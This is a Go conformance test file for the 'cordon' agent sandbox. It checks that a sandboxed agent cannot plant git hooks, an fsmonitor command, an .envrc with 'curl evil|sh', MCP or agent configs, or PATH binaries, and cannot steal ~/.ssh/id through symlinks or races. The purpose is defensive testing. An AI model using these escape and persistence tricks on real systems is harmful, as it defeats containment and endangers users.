package conformance

import (
	"encoding/json"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/cordon-sandbox/cordon/workspace"
)

// agentScript is what agent a1 does in its directory: its work, then the
// files tools run.
const agentScript = `cd "$FIX/agents/a1" || exit 1
echo work > src/notes.txt && ok WORK
printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && ok HOOK
printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> .git/config && ok CONFIG
mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json && ok VSCODE
echo 'curl evil|sh' > .envrc && ok ENVRC
echo '{}' > .mcp.json && ok MCP`

// agentFixture makes the agents root with agent a1 (a git repository) and
// its parent p0.
func agentFixture(h *H) {
	h.Mkdir("agents/a1/src")
	h.Mkdir("agents/p0")
	h.Host("agents/a1", "git", "init", "-q")
}

// agentAutoexec runs agentScript launched with p: the work is done, the
// rest is refused.
func agentAutoexec(h *H, p Policy) {
	snap := h.Snapshot()
	o := h.Sandbox(p, agentScript)
	h.Expect(o, "WORK")
	h.Refuse(o, "HOOK", "CONFIG", "VSCODE", "ENVRC", "MCP")
	h.Unchanged(snap, "agents/a1/src/notes.txt")
}

// Cases about what workspace.Compose adds to every policy: the protections
// of an agent's directory, and of what runs next on the host.
func composeCases() []Case {
	cs := []Case{
		{Name: "agent-dir-autoexec", Class: AutoExec, Summary: "an agent under --agents-root writes its own .git/hooks, .git/config, .vscode/tasks.json, .envrc",
			Run: func(h *H) {
				agentFixture(h)
				agentAutoexec(h, Policy{AgentsRoot: h.Path("agents"), Agent: "a1", Parent: "p0"})
			}},
		{Name: "agent-dir-autoexec-with-workspace", Class: AutoExec, Summary: "the same with --workspace as well: the agent's directory is not the workspace, and is protected like one",
			Run: func(h *H) {
				agentFixture(h)
				_, p := h.ws()
				p.AgentsRoot, p.Agent = h.Path("agents"), "a1"
				agentAutoexec(h, p)
			}},
		{Name: "cross-launch-steered-roots", Class: CrossLaunch, Summary: "a first launch turns ws/lib/vendor, ws/lib/cache and ws/lib/env into links to ~/.ssh/id, a directory outside and a missing path outside; the next launches name them --readonly, --writable and --deny: the read-only and denied ones are refused (the link could be swapped), and none may open ~/.ssh, make the outside writable or create anything outside",
			Run: func(h *H) {
				h.Write("home/.ssh/id", h.Secret)
				h.Mkdir("outside")
				ws, p := h.ws()
				for _, d := range []string{"vendor", "cache", "env"} {
					h.Mkdir("ws/lib/" + d)
				}
				snap := h.Snapshot()
				o := h.Sandbox(p, `cd lib && rm -rf vendor cache env && ln -s "$FIX/home/.ssh/id" vendor && ln -s "$FIX/outside" cache && ln -s "$FIX/outside/new/x" env && ok PLANT`)
				h.Expect(o, "PLANT")
				// A read-only or denied root through such a link is refused
				// (the link could be swapped for a real file); a writable
				// one is kept only where it restricts.
				ro, deny := p, p
				ro.Readonly = []string{ws + "/lib/vendor"}
				deny.Deny = []string{ws + "/lib/env"}
				for _, q := range []Policy{ro, deny} {
					l := h.Script(q, `cd lib; cat vendor; cat "$FIX/home/.ssh/id"; ls -d "$FIX/outside/new" && ok CREATED`)
					l.Refusable = linkSwapRefusal
					v := h.Launch(l)
					h.refusedWith(v, linkSwapRefusal)
					h.NoSecret(v)
					h.Refuse(v, "CREATED")
				}
				q := p
				q.Writable = []string{ws + "/lib/cache"}
				v := h.Sandbox(q, `cd lib; cat vendor; cat "$FIX/home/.ssh/id"; echo x > cache/pwned && ok WROTE; ls -d "$FIX/outside/new" && ok CREATED`)
				h.NoSecret(v)
				h.Refuse(v, "WROTE", "CREATED")
				h.Unchanged(snap, "ws/lib/vendor", "ws/lib/cache", "ws/lib/env")
			}},
		{Name: "runs-next-cordon-in-workspace", Class: CrossLaunch, Summary: "cordon built inside the workspace (bin/cordon) launches the sandbox; the sandbox replaces it for the user's next run",
			Run: func(h *H) {
				_, p := h.ws()
				bin := h.Mkdir("ws/bin")
				h.Host("ws", "cp", h.Attack(), bin+"/cordon")
				h.Mkdir("ws/src")
				snap := h.Snapshot()
				l := h.Script(p, `printf '#!/bin/sh\necho pwned\n' > bin/cordon && ok OVERWRITE; cat /bin/true >> bin/cordon && ok APPEND; rm -f bin/cordon && ok RM; mv bin bin.old && ok MVDIR; cp /bin/true bin/cordon.new && mv -f bin/cordon.new bin/cordon && ok REPLACE; echo work > src/out.txt && ok WORK`)
				l.Cordon = bin + "/cordon"
				o := h.Launch(l)
				h.Expect(o, "WORK")
				h.Refuse(o, "OVERWRITE", "APPEND", "RM", "MVDIR", "REPLACE")
				h.Unchanged(snap, "ws/src/out.txt", "ws/bin/cordon.new")
			}},
		{Name: "runs-next-cordon-open-mode", Class: CrossLaunch, Summary: "with no restrictWrites, overwrite the cordon binary that launched the sandbox",
			Run: func(h *H) {
				bin := h.Mkdir("tools")
				h.Host(".", "cp", h.Attack(), bin+"/cordon")
				snap := h.Snapshot()
				l := h.Script(Policy{Deny: []string{h.Path("nothing-here")}}, `printf '#!/bin/sh\necho pwned\n' > "$FIX/tools/cordon" && ok OVERWRITE; rm -f "$FIX/tools/cordon" && ok RM`)
				l.Cordon = bin + "/cordon"
				o := h.Launch(l)
				h.Refuse(o, "OVERWRITE", "RM")
				h.Unchanged(snap)
			}},
		{Name: "runs-next-path-dir", Class: CrossLaunch, Summary: "plant a program in a directory on the launcher's PATH that lies in the workspace (an existing bin/ and a missing .tools/bin)",
			Run: func(h *H) {
				w, p := h.ws()
				h.Mkdir("ws/bin")
				h.Mkdir("ws/src")
				snap := h.Snapshot()
				path := "PATH=" + w + "/bin:" + w + "/.tools/bin:" + sandboxPath
				o := h.Sandbox(p, `printf '#!/bin/sh\necho pwned\n' > bin/ls && chmod +x bin/ls && ok PLANT; mkdir -p .tools/bin && echo x > .tools/bin/git && ok PLANT_MISSING; echo work > src/out.txt && ok WORK`, path)
				h.Expect(o, "WORK")
				h.Refuse(o, "PLANT", "PLANT_MISSING")
				h.Unchanged(snap, "ws/src/out.txt")
			}},
		{Name: "work-writable-path-dir", Class: Work, Summary: "--writable-path-dir leaves a PATH directory in the workspace writable",
			Run: func(h *H) {
				w, p := h.ws()
				h.Mkdir("ws/bin")
				p.WritablePathDirs = []string{w + "/bin"}
				o := h.Sandbox(p, `echo x > bin/tool && ok WRITE`, "PATH="+w+"/bin:"+sandboxPath)
				h.Expect(o, "WRITE")
			}},
		{Name: "runs-next-home-agent-configs", Class: CrossLaunch, Summary: "with HOME inside the workspace, write agents' configurations (~/.claude.json MCP servers, ~/.claude, ~/.codex, ~/.gemini, ~/.cursor) and ~/go/bin, ~/.cargo/bin",
			Run: func(h *H) {
				_, p := h.ws()
				h.Home = h.Mkdir("ws/home")
				h.Write("ws/home/.claude.json", `{"mcpServers":{}}`)
				h.Mkdir("ws/home/src")
				snap := h.Snapshot()
				o := h.Sandbox(p, `cd "$HOME"
echo '{"mcpServers":{"x":{"command":"sh"}}}' > .claude.json && ok CLAUDE_JSON
mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json && ok CLAUDE
mkdir -p .codex && echo 'x' > .codex/config.toml && ok CODEX
mkdir -p .gemini && echo '{}' > .gemini/settings.json && ok GEMINI
mkdir -p .cursor && echo '{}' > .cursor/mcp.json && ok CURSOR
mkdir -p go/bin && echo x > go/bin/cordon && ok GOBIN
mkdir -p .cargo/bin && echo x > .cargo/bin/cargo && ok CARGOBIN
echo work > src/notes && ok WORK`)
				h.Expect(o, "WORK")
				h.Refuse(o, "CLAUDE_JSON", "CLAUDE", "CODEX", "GEMINI", "CURSOR", "GOBIN", "CARGOBIN")
				h.Unchanged(snap, "ws/home/src/notes")
			}},
		{Name: "runs-next-policy-file", Class: CrossLaunch, Summary: "the --policy file lies in the workspace (ws/cordon.json: deny outside/secrets, ws/config read-only); the sandbox appends to it, truncates, removes, replaces (mv), moves and overwrites it to drop both and add outside as a writable root; the next launch with the same flags tries to read the secret and write ws/config and outside",
			Run: func(h *H) {
				_, p := h.ws()
				h.Write("outside/secrets/id", h.Secret)
				h.Write("ws/config/settings.json", "original\n")
				b, _ := json.Marshal(map[string]any{
					"deniedRoots": []string{h.Path("outside/secrets")}, "readonlyRoots": []string{h.Path("ws/config")}})
				orig := string(b) + "\n"
				p.File = h.Write("ws/cordon.json", orig)
				h.Mkdir("ws/src")
				snap := h.Snapshot()
				// Every attempt leaves a policy that parses: under a
				// sandbox that lets them through, the next launch runs
				// the weakened one and shows what it opens.
				o := h.Sandbox(p, `W='{"writableRoots":["'"$FIX"'/outside"]}'
cat "$FIX/outside/secrets/id"
echo ' ' >> cordon.json && ok APPEND
(: > cordon.json) && ok TRUNCATE
rm -f cordon.json && ok REMOVE
printf '%s' "$W" > new.json && mv -f new.json cordon.json && ok REPLACE
mv cordon.json moved.json && ok MOVE
printf '%s' "$W" > cordon.json && ok OVERWRITE
echo work > src/out.txt && ok WORK`)
				h.NoSecret(o)
				h.Expect(o, "WORK")
				h.Refuse(o, "APPEND", "TRUNCATE", "REMOVE", "REPLACE", "MOVE", "OVERWRITE")
				h.Want("ws/cordon.json", orig)
				// The next launch, same flags: what the file denied stays so.
				v := h.Sandbox(p, `cat "$FIX/outside/secrets/id"
echo pwned > "$FIX/ws/config/settings.json" && ok WRITE_READONLY
echo pwned > "$FIX/outside/planted" && ok WRITE_OUTSIDE
echo work > src/out2.txt && ok WORK`)
				h.NoSecret(v)
				h.Expect(v, "WORK")
				h.Refuse(v, "WRITE_READONLY", "WRITE_OUTSIDE")
				h.Unchanged(snap, "ws/src/out.txt", "ws/src/out2.txt", "ws/new.json")
			}},
	}
	return cs
}

// nestedWorkspace makes rel a workspace that holds every protected name,
// so that no name there is absent (absent names have cases of their own).
func nestedWorkspace(h *H, rel string) {
	h.Write(rel+"/.git", "")
	// Every name the preset protects at the top of a workspace, from the
	// preset's own lists (a hook manager's configuration is protected
	// too where .git is a file), so a name added there is covered here.
	for _, n := range slices.Concat(workspace.AutoExecNames, workspace.HookConfigNames) {
		if strings.Contains(n[1:], ".") || slices.Contains([]string{".envrc", ".gitmodules", ".nvimrc", ".exrc"}, n) {
			h.Write(rel+"/"+n, "")
		} else {
			h.Mkdir(rel + "/" + n)
		}
	}
}

// swapAt launches a sandbox with workspace ws/node_modules/sub that writes
// there, and calls swap at the launcher's moment point of that launch
// (internal/testhook.Launch), then undo once the launch has ended. It
// fails the case unless the moment came, and returns what the launch
// printed and whether it wrote.
func swapAt(h *H, point string, swap, undo func()) (Output, bool) {
	if !h.InProcess() {
		h.NotApplicable("the swap at the launcher's %q moment needs its test hook, in this process (the mutation check runs it); cross-launch-nested-workspace-swap races the same moments through cordon run", point)
	}
	sub := "ws/node_modules/sub"
	met := false
	o := h.Launch(Launch{Policy: Policy{Workspace: h.Path(sub)}, Dir: h.Path(sub),
		Argv: []string{"/bin/sh", "-c", `echo b > "$FIX/` + sub + `/out" && echo "@@WRO""TE@@"; echo b > "$FIX/outside/direct"`},
		At: func(p string) {
			if p == point && !met {
				met = true
				swap()
			}
		}})
	if met {
		undo()
	} else {
		h.Fatalf("the launcher's %q moment never came:\n%s", point, o)
	}
	return o, Marked(o, "WROTE")
}

// swapLaunches is how many launches of B cross-launch-nested-workspace-swap
// races against A's swapping.
const swapLaunches = 20

// launchRaceCases: a sandbox races a later launch's resolution of its policy.
func launchRaceCases() []Case {
	return []Case{
		{Name: "cross-launch-swap-at-resolve", Class: CrossLaunch, Backends: linuxOnly,
			Summary: "between the composition of B's policy (--workspace ws/node_modules/sub) and the launcher's own resolution of it, sub is swapped for a symlink to a directory outside (a test hook of the launcher acts at that moment): B may not write outside",
			Run: func(h *H) {
				sub := "ws/node_modules/sub"
				nestedWorkspace(h, sub)
				h.Mkdir("outside")
				// A workspace there is refused (a protected name that is
				// a symlink): a launch that writes there did not build its
				// policy for it.
				h.Symlink("/dev/null", "outside/.envrc")
				snap := h.Snapshot()
				o, _ := swapAt(h, "resolve", func() {
					h.rename(sub, sub+".real")
					h.Symlink(h.Path("outside"), sub)
				}, func() {
					h.remove(sub)
					h.rename(sub+".real", sub)
				})
				h.Unchanged(snap, "ws/node_modules/sub/out")
				if ents, err := os.ReadDir(h.Path("outside")); err != nil || len(ents) != 1 {
					h.Errorf("host: outside holds %d entries after the launch, want only .envrc (%v):\n%s", len(ents), err, o)
				}
			}},
		{Name: "cross-launch-swap-at-mount", Class: CrossLaunch, Backends: linuxOnly,
			Summary: "once the launcher has resolved B's policy (--workspace ws/node_modules/sub) and just before the sandbox mounts it, sub is exchanged with another directory (a test hook of the launcher acts at that moment): B writes in the directory its policy was built for, or not at all",
			Run: func(h *H) {
				sub, other := "ws/node_modules/sub", "ws/node_modules/other"
				nestedWorkspace(h, sub)
				// The other directory could be a workspace too, so that
				// nothing but identity tells it from sub.
				nestedWorkspace(h, other)
				h.Mkdir("outside")
				snap := h.Snapshot()
				exchange := func() {
					h.rename(sub, sub+".x")
					h.rename(other, sub)
					h.rename(sub+".x", other)
				}
				o, _ := swapAt(h, "mount", exchange, exchange)
				// Written or refused: either way, the other directory has
				// nothing new, and neither has outside (B's policy does
				// not let it write there).
				if h.Unchanged(snap, "ws/node_modules/sub/out"); h.Exists("ws/node_modules/other/out") {
					h.Errorf("host: B wrote in the directory swapped in:\n%s", o)
				}
			}},
		{Name: "cross-launch-nested-workspace-swap", Class: CrossLaunch, Summary: "sandbox A (workspace ws) swaps ws/node_modules/sub with a symlink to a directory outside, in a loop, while 20 launches of B (--workspace ws/node_modules/sub) write in their workspace: none may write outside",
			Run: func(h *H) {
				// B's workspace holds every protected name, so its launch
				// needs no mount stub (stubs have cases of their own), and
				// sits where A's scan for nested repositories does not look
				// (node_modules), so A's own policy does not pin it.
				sub := "ws/node_modules/sub"
				nestedWorkspace(h, sub)
				h.Mkdir("outside")
				// A workspace there is refused (a protected name that is a
				// symlink), so a launch that writes there did not build
				// its policy for it: it resolved twice.
				h.Symlink("/dev/null", "outside/.envrc")
				h.Symlink(h.Path("outside"), "ws/node_modules/decoy")
				// B writes in a directory of its workspace, A says it is
				// ready in one of its own: neither at a workspace's top,
				// where the landlock backend makes nothing.
				h.Mkdir(sub + "/src")
				h.Mkdir("ws/run")
				snap := h.Snapshot()
				a := h.Background(Launch{Policy: Policy{Workspace: h.Path("ws")}, Dir: h.Path("ws"),
					Argv: []string{h.Attack(), "__attack", "exchange-loop", h.Path(sub), h.Path("ws/node_modules/decoy"), h.Path("ws/run/.ready"), h.Path("stop")}})
				for end := time.Now().Add(20 * time.Second); !h.Exists("ws/run/.ready"); time.Sleep(10 * time.Millisecond) {
					if time.Now().After(end) || h.ctx.Err() != nil {
						h.Fatalf("the swapping sandbox did not start:\n%s", a())
					}
				}
				wrote, refused := 0, 0
				// 20, not more: the moments this race aims at are forced
				// exactly by cross-launch-swap-at-resolve and -at-mount
				// (the launcher's test hook); this case is the attack as
				// a sandbox can mount it, through cordon run, and each
				// launch costs the suite a whole launch on every backend
				// and user.
				for i := 0; i < swapLaunches; i++ {
					o := h.Launch(Launch{Policy: Policy{Workspace: h.Path(sub)}, Dir: h.Path(sub),
						// In its workspace, and straight at outside: a launch
						// whose writable root became outside writes there
						// whatever the swap's state when it writes.
						Argv: []string{"/bin/sh", "-c", `echo b > "$FIX/` + sub + `/src/out-$N" && echo "@@WRO""TE@@"; echo b > "$FIX/outside/direct-$N"`}, Env: []string{"N=" + strconv.Itoa(i)}})
					if Marked(o, "WROTE") {
						wrote++
					} else {
						refused++
					}
				}
				h.Write("stop", "")
				if o := a(); !Marked(o, "SWAPPED") {
					h.Fatalf("the swapping sandbox failed:\n%s", o)
				}
				h.Unchanged(snap, "ws", "stop")
				if ents, err := os.ReadDir(h.Path("outside")); err != nil || len(ents) != 1 {
					h.Errorf("host: outside holds %d entries after the launches, want only .envrc (%v)", len(ents), err)
				}
				// Most launches are refused while A swaps (each check has to
				// see the real directory); once A stops, B must work.
				o := h.Launch(Launch{Policy: Policy{Workspace: h.Path(sub)}, Dir: h.Path(sub),
					Argv: []string{"/bin/sh", "-c", `echo b > "$FIX/` + sub + `/src/after" && echo "@@WRO""TE@@"`}})
				if !Marked(o, "WROTE") {
					h.Errorf("after the race (%d of %d launches wrote, %d refused), B cannot write in its workspace:\n%s", wrote, swapLaunches, refused, o)
				}
			}},
	}
}
